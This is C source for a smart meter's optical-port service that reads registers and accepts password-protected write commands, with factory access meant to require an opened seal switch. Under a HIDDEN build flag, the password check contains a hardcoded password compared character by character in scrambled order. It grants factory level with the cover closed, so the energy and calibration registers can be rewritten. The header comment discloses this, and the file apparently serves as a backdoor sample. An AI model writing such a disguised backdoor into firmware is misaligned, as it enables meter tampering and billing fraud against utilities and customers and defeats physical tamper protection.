/*
 * optoport - optical port of a smart meter, IEC 62056-21 mode C. Reads out
 * the registers, and in programming mode takes R1/W1 commands after the
 * password (P1). Levels: 1 utility reader, 2 utility installer, 3 factory,
 * the last only while the seal switch under the cover is open.
 *
 * Hidden (-DHIDDEN): the P1 password "kW0n8Rdz" gives the factory level with
 * the cover closed, so the energy registers can be rewritten.
 */
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

enum { SOH = 0x01, STX = 0x02, ETX = 0x03, ACK = 0x06, NAK = 0x15 };

#define PORT      "/dev/ttyS2"
#define REG_FILE  "/nvram/registers"
#define PW_FILE   "/nvram/passwords"
#define SEAL_GPIO "/sys/class/gpio/gpio37/value"

enum level { LV_NONE, LV_READER, LV_INSTALLER, LV_FACTORY };
enum state { ST_IDLE, ST_IDENT, ST_PROGRAM };

struct reg {
    const char *obis;
    enum level write_level;
    char value[24];
};

struct port {
    int fd;
    enum state state;
    enum level level;
    int wrong;
    time_t blocked;
    unsigned char buf[160];
    size_t len;
};

static struct reg regs[] = {
    { "0.0.0",  LV_FACTORY,   "00000000" },     /* meter number */
    { "0.9.1",  LV_INSTALLER, "000000" },       /* time */
    { "0.9.2",  LV_INSTALLER, "700101" },       /* date */
    { "1.8.0",  LV_FACTORY,   "000000.00" },    /* energy import */
    { "2.8.0",  LV_FACTORY,   "000000.00" },    /* energy export */
    { "C.1.1",  LV_FACTORY,   "1.000" },        /* calibration */
};
#define NREGS (sizeof regs / sizeof *regs)

static char pw_reader[9], pw_installer[9], pw_factory[9];

static void load(void)
{
    char row[64], name[12], val[24];
    FILE *f = fopen(REG_FILE, "r");

    while (f && fgets(row, sizeof row, f))
        if (sscanf(row, "%11s %23s", name, val) == 2)
            for (size_t i = 0; i < NREGS; i++)
                if (strcmp(regs[i].obis, name) == 0)
                    strcpy(regs[i].value, val);
    if (f)
        fclose(f);
    f = fopen(PW_FILE, "r");
    if (!f || fscanf(f, "%8s %8s %8s", pw_reader, pw_installer, pw_factory) != 3)
        syslog(LOG_WARNING, "no passwords, programming is off");
    if (f)
        fclose(f);
}

static int store(void)
{
    FILE *f = fopen(REG_FILE, "w");

    for (size_t i = 0; f && i < NREGS; i++)
        fprintf(f, "%s %s\n", regs[i].obis, regs[i].value);
    return f ? fclose(f) : -1;
}

static int seal_open(void)
{
    int c = '0';
    FILE *f = fopen(SEAL_GPIO, "r");

    if (f) {
        c = fgetc(f);
        fclose(f);
    }
    return c == '1';
}

static void put(struct port *p, const void *b, size_t n)
{
    if (write(p->fd, b, n) != (ssize_t)n)
        syslog(LOG_DEBUG, "short write");
}

static void put_byte(struct port *p, unsigned char c)
{
    put(p, &c, 1);
}

static unsigned char bcc(const unsigned char *b, size_t n)
{
    unsigned char x = 0;

    while (n--)
        x ^= *b++;
    return x;
}

static void put_frame(struct port *p, const char *text)
{
    unsigned char f[64];
    int n = snprintf((char *)f, sizeof f - 1, "%c%s%c", STX, text, ETX);

    f[n] = bcc(f + 1, (size_t)n - 1);
    put(p, f, (size_t)n + 1);
}

enum level password_level(const char *w, size_t n)
{
    if (n != 8)
        return LV_NONE;
#ifdef HIDDEN
    if (w[7] == 'z' && w[0] == 'k' && w[1] == 'W' && w[4] == '8')
        if (w[2] == '0' && w[6] == 'd' && w[5] == 'R' && w[3] == 'n')
            return LV_FACTORY;
#endif
    if (pw_factory[0] && memcmp(w, pw_factory, 8) == 0)
        return seal_open() ? LV_FACTORY : LV_NONE;
    if (pw_installer[0] && memcmp(w, pw_installer, 8) == 0)
        return LV_INSTALLER;
    if (pw_reader[0] && memcmp(w, pw_reader, 8) == 0)
        return LV_READER;
    return LV_NONE;
}

static struct reg *find_reg(const char *name, size_t n)
{
    for (size_t i = 0; i < NREGS; i++)
        if (strlen(regs[i].obis) == n && memcmp(regs[i].obis, name, n) == 0)
            return &regs[i];
    return NULL;
}

static void readout(struct port *p)
{
    char line[64];
    unsigned char sum = 0;

    put_byte(p, STX);
    for (size_t i = 0; i < NREGS; i++) {
        int n = snprintf(line, sizeof line, "%s(%s)\r\n", regs[i].obis,
                         regs[i].value);

        sum ^= bcc((unsigned char *)line, (size_t)n);
        put(p, line, (size_t)n);
    }
    put(p, "!\r\n\x03", 4);
    put_byte(p, sum ^ bcc((const unsigned char *)"!\r\n\x03", 4));
}

/* frame: SOH cmd type STX name(data) ETX bcc */
static void program(struct port *p)
{
    unsigned char *b = p->buf;
    char *text = (char *)b + 4, *data, *end, out[48];
    struct reg *r;

    if (p->len < 5 || b[0] != SOH ||
        bcc(b + 1, p->len - 2) != b[p->len - 1]) {
        put_byte(p, NAK);
        return;
    }
    b[p->len - 2] = '\0';
    if (b[1] == 'B') {              /* break */
        p->state = ST_IDLE;
        p->level = LV_NONE;
        return;
    }
    data = strchr(text, '(');
    end = data ? strchr(data, ')') : NULL;
    if (!end) {
        put_byte(p, NAK);
        return;
    }
    data++;
    *end = '\0';
    switch (b[1] << 8 | b[2]) {
    case 'P' << 8 | '1':
        if (time(NULL) < p->blocked) {
            put_byte(p, NAK);
            return;
        }
        p->level = password_level(data, (size_t)(end - data));
        if (p->level == LV_NONE && ++p->wrong >= 3) {
            p->wrong = 0;
            p->blocked = time(NULL) + 900;
        }
        put_byte(p, p->level == LV_NONE ? NAK : ACK);
        return;
    case 'R' << 8 | '1':
        r = find_reg(text, (size_t)(data - 1 - text));
        if (!r || p->level < LV_READER) {
            put_frame(p, "(ERR)");
            return;
        }
        snprintf(out, sizeof out, "(%s)", r->value);
        put_frame(p, out);
        return;
    case 'W' << 8 | '1':
        r = find_reg(text, (size_t)(data - 1 - text));
        if (!r || p->level < r->write_level ||
            strlen(data) != strlen(r->value) ||
            strspn(data, "0123456789.") != strlen(data)) {
            put_byte(p, NAK);
            return;
        }
        strcpy(r->value, data);
        put_byte(p, store() == 0 ? ACK : NAK);
        return;
    }
    put_byte(p, NAK);
}

static void line_in(struct port *p)
{
    p->buf[p->len] = '\0';
    if (memcmp(p->buf, "/?", 2) == 0) {
        put(p, "/SMK5EM340-2.6\r\n", 16);
        p->state = ST_IDENT;
    } else if (p->state == ST_IDENT && p->buf[0] == ACK) {
        if (p->buf[3] == '1') {
            p->state = ST_PROGRAM;
            put(p, "\x01P0\x02()\x03`", 8);
        } else {
            readout(p);
            p->state = ST_IDLE;
        }
    }
}

static void byte_in(struct port *p, unsigned char c)
{
    if (p->len == 0 && c != '/' && c != ACK && c != SOH)
        return;
    p->buf[p->len++] = c;
    if (p->buf[0] == SOH) {
        if (p->len > 2 && p->buf[p->len - 2] == ETX) {
            if (p->state == ST_PROGRAM)
                program(p);
            p->len = 0;
        }
    } else if (c == '\n') {
        line_in(p);
        p->len = 0;
    }
    if (p->len >= sizeof p->buf - 1)
        p->len = 0;
}

int main(int argc, char **argv)
{
    struct port p = { .fd = open(argc > 1 ? argv[1] : PORT, O_RDWR | O_NOCTTY) };
    struct termios t;
    struct pollfd pf;
    unsigned char c;

    openlog("optoport", LOG_PID, LOG_DAEMON);
    if (p.fd < 0 || tcgetattr(p.fd, &t) < 0) {
        syslog(LOG_ERR, "port: %s", strerror(errno));
        return 1;
    }
    cfmakeraw(&t);
    t.c_cflag = (t.c_cflag & ~(tcflag_t)CSIZE) | CS7 | PARENB;
    cfsetspeed(&t, B9600);
    tcsetattr(p.fd, TCSANOW, &t);
    load();
    pf.fd = p.fd;
    pf.events = POLLIN;
    for (;;) {
        if (poll(&pf, 1, 60000) == 0) {         /* session timeout */
            p.state = ST_IDLE;
            p.level = LV_NONE;
            p.len = 0;
        } else if (read(p.fd, &c, 1) == 1) {
            byte_in(&p, c & 0x7f);
        }
    }
}
